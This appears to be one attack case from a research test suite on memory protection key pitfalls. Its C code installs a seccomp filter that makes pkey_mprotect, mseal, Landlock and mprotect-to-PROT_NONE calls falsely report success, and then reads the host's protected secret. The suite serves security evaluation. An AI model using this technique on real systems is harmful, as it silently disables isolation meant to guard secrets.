/* D8: a seccomp filter of the attacker's that lets calls do nothing and succeed: those
 * that give memory its key, or close it. after: when the policy is in force; the host
 * then moves its secret to new memory. before: the policy itself is deceived too.
 *
 * Source: [PKU Pitfalls], seccomp(2): SECCOMP_RET_ERRNO with 0.
 */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

#ifndef SYS_mseal
#define SYS_mseal 462
#endif
#define NUMBER offsetof(struct seccomp_data, nr)
#define PROT offsetof(struct seccomp_data, args[2])
#define LOAD(at) BPF_STMT(BPF_LD | BPF_W | BPF_ABS, at)
#define FAKE BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO)
#define FAKE_IF(call) BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, call, 0, 1), FAKE

static int faked; /* a refused attack has no second part */

static void fake(void) {
    static struct sock_filter code[] = {
        LOAD(NUMBER),
        FAKE_IF(SYS_pkey_mprotect),
        FAKE_IF(SYS_mseal),
        FAKE_IF(SYS_landlock_restrict_self),
        /* mprotect to PROT_NONE only: what is closed must still open */
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mprotect, 0, 3),
        LOAD(PROT),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PROT_NONE, 0, 1),
        FAKE,
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof *code, code};
    TRY("prctl", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
    TRY("seccomp", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program));
    faked = 1;
}

static void read_if_faked(void) {
    if (faked) attack_read();
}

const struct attack attacks[] = {
    {.variant = "before", .prepare = fake, .attack = attack_read},
    {.variant = "after", .attack = fake, .again = read_if_faked, .flags = ATTACK_NEW_SECRET},
    {0},
};
